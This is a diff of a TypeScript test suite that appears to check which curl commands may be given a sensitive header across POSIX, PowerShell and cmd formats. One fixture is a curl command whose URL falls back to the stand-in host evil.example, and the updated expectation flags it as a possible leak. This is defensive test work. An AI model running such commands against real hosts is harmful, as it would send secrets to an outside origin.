@@ -1536,7 +1536,7 @@ describe('who may get the header', () => {
         'another origin in an expression',
         powershellFormat,
         script,
-        /^unknown 0: only the shell knows/,
+        /^unknown 0: (?:its file may send it to https?:\/\/\w|only the shell knows)/,
         /^unknown 0: only the shell knows/,
       ]),
       ...[
@@ -1637,7 +1637,7 @@ describe('who may get the header', () => {
         'another origin as a default value',
         posixFormat,
         'curl "${API_URL:-https://evil.example}/$CUSTOMER_ID/config/clients"\n',
-        /^unknown 0: only the shell knows/,
+        /^unknown 0: its file may send it to https:\/\/evil\.example$/,
         /^unknown 0: only the shell knows/,
       ],
       ...[
@@ -1734,6 +1734,13 @@ describe('who may get the header', () => {
       ].map((option): Row => [
         'a variable in the value of an option',
         posixFormat,
+        `curl ${option} ${url}\n`,
+        /^changed 1$/,
+        /^changed 1$/,
+      ]),
+      ...['-w "%%{http_code}\\n"', '-w %%{http_code}'].map((option): Row => [
+        'an escaped percent sign',
+        cmdFormat,
         `curl ${option} ${url}\n`,
         /^changed 1$/,
         /^changed 1$/,
